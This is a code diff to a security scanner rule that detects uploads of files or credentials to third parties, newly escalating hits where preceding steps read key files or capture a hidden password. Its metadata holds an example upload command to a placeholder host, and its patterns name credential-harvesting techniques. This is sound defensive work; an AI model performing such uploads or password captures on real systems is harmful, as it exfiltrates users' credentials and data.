@@ -2,9 +2,32 @@ import type { ScanContext } from '../../views/scan-context';
 import { parseFrontmatter } from '../../parsers/frontmatter.parser';
 import { realHost } from '../credential-vendors';
 import { defineRegexRule, perFile } from '../regex-rule';
+import type { Rule } from '../rule.types';
+import { CREDENTIAL_SOURCE } from '../vocabulary';
 
 const SHELL_URL_ASSIGNMENT_RE = /^\s{0,8}(?:export\s{1,3}|readonly\s{1,3}|local\s{1,3})?([A-Za-z_]\w{0,40})=["']?(https:\/\/[^\s"']{1,300})/;
 const CURL_TARGET_RE = /(https:\/\/[^\s"'`)]{1,300})|["']?\$\{?([A-Za-z_]\w{0,40})\}?/g;
+
+/** Credential material gathered: key and token files, browser stores, the environment. */
+const CREDENTIAL_READ = new RegExp(CREDENTIAL_SOURCE, 'i');
+/** A password typed at a prompt that hides it (`stty -echo; read p`, `read -s`, `getpass()`, `Read-Host -AsSecureString`). */
+const PASSWORD_READ = /\bstty\s{1,3}-echo\b|\bread\s{1,3}-\w{0,3}s\w{0,3}\s|\bgetpass\s{0,2}\(|-AsSecureString\b/i;
+const HEADING = /^\s{0,3}#{1,6}\s/;
+/** How far above an upload its staging steps are read (one fenced block or list of steps). */
+const STAGING_REACH = 10;
+
+/**
+ * The steps just above the upload, back to the section's heading, gather credential material or
+ * capture a password: what leaves is credentials, not a project file.
+ */
+function uploadsCredentials(ctx: ScanContext, line: number): boolean {
+  for (let i = line - 1; i >= Math.max(0, line - 1 - STAGING_REACH); i--) {
+    const text = ctx.lines[i] ?? '';
+    if (i < line - 1 && HEADING.test(text)) return false;
+    if (CREDENTIAL_READ.test(text) || PASSWORD_READ.test(text)) return true;
+  }
+  return false;
+}
 
 /** Shell variables assigned an https URL in this file (DEPLOY_ENDPOINT="https://…"). */
 const urlVariables = perFile((ctx: ScanContext): Map<string, string> => {
@@ -47,7 +70,7 @@ function uploadsToDeclaredService(ctx: ScanContext, line: string): boolean {
   );
 }
 
-export const exfUploadExternalRule = defineRegexRule({
+const uploadExternalRule = defineRegexRule({
   meta: {
     id: 'BW-EXF-003',
     title: 'Files or repository contents uploaded to a third party',
@@ -56,7 +79,7 @@ export const exfUploadExternalRule = defineRegexRule({
     confidence: 'medium',
     asset_type: 'instructions',
     rationale:
-      "Multipart/file uploads (`curl -F file=@…`, `--data-binary @…`, `-T`), public gists of project files, mirror pushes to a newly added remote and paste/webhook sinks move the user's data off the machine. Legitimate uploads exist, so confidence is medium; concealment or credential content nearby raises the score through other rules.",
+      "Multipart/file uploads (`curl -F file=@…`, `--data-binary @…`, `-T`), public gists of project files, mirror pushes to a newly added remote and paste/webhook sinks move the user's data off the machine. Legitimate uploads exist, so confidence is medium; when the steps just above the upload (back to the section heading) gather key, token or browser files or capture a typed password, what leaves is credentials: critical, high confidence.",
     example: 'curl -s -F file=@<path> https://analysis.example/analyze',
   },
   triggers: [
@@ -102,8 +125,16 @@ export const exfUploadExternalRule = defineRegexRule({
   refine(hit, _m, ctx, view) {
     if (view.name !== 'raw' || !/^curl\b/i.test(hit.evidence)) return hit;
     const line = ctx.lines[hit.line - 1] ?? '';
-    return uploadsToDeclaredService(ctx, line)
-      ? { ...hit, severity: 'medium', confidence: 'low', message: 'Upload to the service the bundle declares it deploys to' }
+    if (uploadsToDeclaredService(ctx, line))
+      return { ...hit, severity: 'medium', confidence: 'low', message: 'Upload to the service the bundle declares it deploys to' };
+    return uploadsCredentials(ctx, hit.line)
+      ? { ...hit, severity: 'critical', confidence: 'high', message: 'Credentials gathered in the steps above uploaded to a third party' }
       : hit;
   },
 });
+
+/** The regex rule plus the regexes its refine reads, so the ReDoS check sees them all. */
+export const exfUploadExternalRule: Rule = {
+  ...uploadExternalRule,
+  regexes: [...uploadExternalRule.regexes, SHELL_URL_ASSIGNMENT_RE, CURL_TARGET_RE, CREDENTIAL_READ, PASSWORD_READ, HEADING],
+};
